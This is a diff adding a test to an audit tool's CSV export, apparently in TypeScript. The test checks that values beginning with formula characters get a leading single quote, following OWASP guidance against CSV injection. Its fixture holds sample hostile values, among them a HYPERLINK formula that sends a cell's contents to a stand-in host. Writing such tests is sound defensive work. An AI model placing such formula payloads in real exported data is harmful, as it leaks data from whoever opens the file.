@@ -188,6 +188,26 @@ describe('outputs', () => {
     assert.match(csv.stdout, /evil\u001b\[2J\u0007app/, 'CSV carries the data unchanged');
   });
 
+  it('--csv neutralises values a spreadsheet would run as formulas with a leading single quote (OWASP)', async () => {
+    // Prepare: application and user names a hostile client could choose.
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1'];
+    const events = passEvents({
+      runId: 'run-csv', cluster: 'c', trigger: { type: 'cli' }, dryRun: false, startedAt: '2024-05-01T00:00:00Z', finishedAt: '2024-05-01T00:00:01Z',
+      decisions: hostile.map((appName, i) => ({ at: `2024-05-01T00:00:00.${i}Z`, session: { ...S.bobQuery, appName }, rule: 'runaway-operation', outcome: 'killed' as const })),
+    });
+    const path = join(dir, 'formula.jsonl');
+    writeFileSync(path, historyJsonLines(events));
+    // Act
+    const out = await audit(['--file', path, '--csv', '--outcome', 'killed']);
+    // Assess
+    assert.equal(out.code, 0, out.stderr);
+    const records = parseCsv(out.stdout);
+    const app = records[0]!.indexOf('app');
+    assert.deepEqual(records.slice(1).map((r) => r[app]), hostile.map((name) => `'${name}`));
+    const unchanged = parseCsv((await audit(['--file', file, '--csv'])).stdout).slice(1).map((r) => r[app]);
+    assert.ok(unchanged.every((name) => !name!.startsWith("'")), 'ordinary names are not touched');
+  });
+
   it('--csv is RFC 4180: header, CRLF, quoted commas, doubled quotes, line breaks inside quotes', async () => {
     // Act
     const out = await audit(['--file', file, '--csv']);
